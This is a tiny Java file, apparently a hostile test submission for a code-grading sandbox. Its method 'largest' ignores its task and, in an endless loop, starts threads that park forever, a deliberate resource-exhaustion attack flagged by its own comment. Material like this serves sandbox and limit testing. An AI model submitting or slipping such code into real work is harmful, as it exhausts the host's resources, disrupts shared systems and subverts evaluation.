/* resources: starts threads without end */
class Attack {
    static int largest(int[] values) throws Throwable {
        while (true) {
            Thread one = new Thread(() -> {
                while (true) {
                    java.util.concurrent.locks.LockSupport.park();
                }
            });
            one.start();
        }
    }
}
